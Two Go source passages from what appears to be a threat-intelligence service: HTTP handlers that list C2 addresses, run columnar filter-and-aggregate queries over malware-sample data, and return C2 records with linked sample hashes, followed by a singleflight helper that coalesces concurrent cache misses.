	if herr := s.checkParams(r, "limit", "cursor"); herr != nil {
		return nil, herr
	}
	limit, cursor, herr := page(r)
	if herr != nil {
		return nil, herr
	}
	addrs := st.C2Addresses()
	sp.AddRows(len(addrs))
	var pg []string
	if cursor < len(addrs) {
		end := cursor + limit
		if end > len(addrs) {
			end = len(addrs)
		}
		pg = addrs[cursor:end]
	}
	return struct {
		pageEnvelope
		Addresses []string `json:"addresses"`
	}{envelope(st, len(addrs), cursor, len(pg)), pg}, nil
}

// handleQuery is the vectorized filter+aggregate endpoint: ?q= holds
// a colstore expression (`family=="mirai" and day in 100..200 |
// count() by c2`), parsed and type-checked per request — malformed
// queries are 400s carrying the parser's position — then compiled to
// kernel calls over the store's columnar batch. Responses ride the
// same generation-keyed cache, singleflight, and hot-swap machinery
// as every other endpoint: the query string is part of the cache
// key, and a repeated aggregation is a cache hit that never touches
// the columns.
func (s *Server) handleQuery(st *Store, r *http.Request, sp *redplane.Span) (any, *httpError) {
	if herr := s.checkParams(r, "q"); herr != nil {
		return nil, herr
	}
	src := r.URL.Query().Get("q")
	q, err := colstore.Parse(src)
	if err != nil {
		return nil, badRequest("q: %v", err)
	}
	plan, err := st.batch.Compile(q)
	if err != nil {
		return nil, badRequest("q: %v", err)
	}
	// A vectorized plan always scans every row of the batch; the
	// selection happens inside the kernels.
	sp.AddRows(st.batch.NumRows)
	return struct {
		Generation string           `json:"generation"`
		Day        int              `json:"day"`
		Query      string           `json:"query"`
		Result     *colstore.Result `json:"result"`
	}{Generation: st.Generation, Day: st.Day, Query: src, Result: plan.Run()}, nil
}

func (s *Server) handleC2(st *Store, r *http.Request, sp *redplane.Span) (any, *httpError) {
	if herr := s.checkParams(r); herr != nil {
		return nil, herr
	}
	addr := r.PathValue("addr")
	rec, positions := st.C2(addr)
	if rec == nil {
		return nil, &httpError{status: http.StatusNotFound, msg: fmt.Sprintf("no such C2 endpoint %q", addr)}
	}
	sp.AddRows(len(positions))
	shas := make([]string, len(positions))
	for i, p := range positions {
		shas[i] = st.Sample(p).SHA
	}
	return struct {
		Generation string         `json:"generation"`
		Day        int            `json:"day"`
		Record     *core.C2Record `json:"record"`
		SampleSHAs []string       `json:"sample_shas"`
		Lifespan   float64        `json:"lifespan_days"`
	}{Generation: st.Generation, Day: st.Day, Record: rec, SampleSHAs: shas, Lifespan: rec.LifespanDays()}, nil
}
