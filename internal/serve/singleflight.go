package serve

import "sync"

// flightGroup coalesces concurrent cache misses for the same key into
// one computation. The serving cache is keyed by (generation,
// normalized query) and a snapshot hot-swap clears it wholesale, so a
// popular query's first miss after a swap arrives as a thundering
// herd: without coalescing, every one of those requests would rebuild
// the same response from the store at once. With it, the first caller
// (the leader) computes; everyone else parks on the flight and shares
// the leader's bytes.
//
// Keys embed the store generation, which is what keeps a mid-flight
// hot swap from mixing generations: a request that resolves the new
// store derives a different key, lands in a different flight, and
// never joins a computation running against the old snapshot.
type flightGroup struct {
	mu sync.Mutex
	m  map[string]*flight
}

// flight is one in-progress computation. done is closed when body and
// herr are final; n counts joined callers (leader included), which the
// stampede test uses to park a deterministic herd before release.
type flight struct {
	done chan struct{}
	n    int
	body []byte
	herr *httpError
}

// do returns the computed response for key, running compute exactly
// once per concurrent group of callers. leader reports whether this
// caller ran the computation (the caller that did counts the cache
// miss; the rest count as coalesced).
func (g *flightGroup) do(key string, compute func() ([]byte, *httpError)) (body []byte, herr *httpError, leader bool) {
	g.mu.Lock()
	if g.m == nil {
		g.m = map[string]*flight{}
	}
	if f, ok := g.m[key]; ok {
		f.n++
		g.mu.Unlock()
		<-f.done
		return f.body, f.herr, false
	}
	f := &flight{done: make(chan struct{}), n: 1}
	g.m[key] = f
	g.mu.Unlock()

	// The flight is removed before done is closed: a caller arriving
	// after that either hits the cache (the leader populated it before
	// returning) or starts a fresh flight — it never joins a finished
	// one.
	defer func() {
		g.mu.Lock()
		delete(g.m, key)
		g.mu.Unlock()
		close(f.done)
	}()
	f.body, f.herr = compute()
	return f.body, f.herr, true
}

// joined reports how many callers are parked on key's flight (leader
// included), zero when no flight is open. Test instrumentation.
func (g *flightGroup) joined(key string) int {
	g.mu.Lock()
	defer g.mu.Unlock()
	if f, ok := g.m[key]; ok {
		return f.n
	}
	return 0
}
